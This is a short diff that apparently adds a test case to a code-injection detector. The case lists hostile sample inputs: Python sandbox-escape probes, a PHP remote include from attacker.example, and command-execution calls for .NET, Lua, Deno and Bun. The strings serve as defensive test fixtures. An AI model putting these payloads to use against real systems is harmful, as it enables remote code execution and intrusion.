@@ -123,3 +123,19 @@ honest(
     ['exec team', { in: 'query' }],
   ],
 )
+
+attacks(
+  'code by its types, by other run times and by what it includes',
+  [code],
+  [
+    '().__class__.__bases__',
+    "getattr(__builtins__,'eval')",
+    "compile('1','','exec')",
+    "include('http://attacker.example/x')",
+    '<jsp:include page="x"/>',
+    'System.Diagnostics.Process.Start("x")',
+    "os.execute('id')",
+    "Deno.run({cmd:['id']})",
+    "Bun.spawn(['id'])",
+  ],
+)
